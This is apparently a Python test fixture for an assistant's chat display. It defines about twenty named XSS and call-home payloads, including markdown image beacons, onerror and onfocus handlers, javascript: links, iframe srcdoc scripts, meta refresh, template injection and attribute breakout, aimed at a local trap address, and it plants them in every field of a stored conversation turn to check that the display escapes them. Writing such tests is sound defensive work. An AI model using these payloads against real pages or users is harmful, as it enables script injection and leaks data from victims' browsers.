"""What someone may write to make a reader's browser call home or run a script."""

from datetime import UTC, datetime

from assistant.types import Citation, Decision, Reply, Sentiment, Signals, Turn


def payloads(trap: str) -> dict[str, str]:
    """Return attacks by name; those that call home call the address `trap`, those that run a script set `pwned`."""
    return {
        "markdown image": f"![sales]({trap}/markdown-image.png)",
        "reference image": f"![sales][ref]\n\n[ref]: {trap}/reference-image.png",
        "image with onerror": f"<img src='{trap}/img.png' onerror=\"fetch('{trap}/onerror');window.pwned=1\">",
        "style background": f"<p style=\"background:url('{trap}/background.png')\">sales</p>",
        "style element": f"<style>@import '{trap}/import.css'; body{{background:url({trap}/body.png)}}</style>",
        "video": f"<video src='{trap}/video.mp4' poster='{trap}/poster.png' autoplay></video>",
        "svg": f"<svg onload=\"window.pwned=1\"><image href='{trap}/svg.png'/></svg>",
        "iframe": f"<iframe src='{trap}/iframe'></iframe><iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
        "script link": "[sales](javascript:window.pwned=1) <a href='javascript:window.pwned=1'>sales</a>",
        "autolink": f"<{trap}/autolink> {trap}/bare-link",
        "data page": "<object data='data:text/html,<script>parent.pwned=1</script>'></object>",
        "base": f"<base href='{trap}/base/'><img src='relative.png'>",
        "meta refresh": f"<meta http-equiv='refresh' content='0;url={trap}/refresh'>",
        "form": f"<form action='{trap}/form'><button autofocus onfocus='window.pwned=1'>sales</button></form>",
        "mathml": f"<math><mtext><img src='{trap}/math.png' onerror='window.pwned=1'></mtext></math>",
        "template": "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}} {{{this}}}",
        "formula": "$$\\href{javascript:window.pwned=1}{x}$$ $$\\includegraphics{" + trap + "/formula.png}$$",
        "attribute": '" onmouseover="window.pwned=1" autofocus onfocus=\'window.pwned=1\' [1] "',
        "script": f"</script><script src='{trap}/script.js'></script><script>window.pwned=1</script>",
    }


PAYLOADS = payloads("http://127.0.0.1:9")


def hostile_turn(payload: str, conversation_id: str = "c", turn_id: str = "t") -> Turn:
    """Make a stored turn that holds the payload everywhere: question, answer, title, document name and quotation."""
    mood = Sentiment(label="neutral", score=0)
    citation = Citation(marker=1, document=payload, title=payload, revision=1, start=0, end=len(payload), quote=payload)
    reply = Reply(
        conversation_id=conversation_id,
        turn_id=turn_id,
        text=f"{payload} [1]",
        citations=(citation,),
        decision=Decision(action="answer", reason=payload),
        signals=Signals(sentiment=mood, conversation=mood),
        responder="extractive",
        searched_for=payload,
        timings_ms={},
    )
    return Turn(
        id=turn_id,
        conversation_id=conversation_id,
        ordinal=1,
        created_at=datetime.now(UTC),
        speaker="customer",
        question=payload,
        reply=reply,
        status="complete",
    )


def long_ago() -> datetime:
    """Return a moment at which no turn was still being answered."""
    return datetime(2030, 1, 1, tzinfo=UTC)
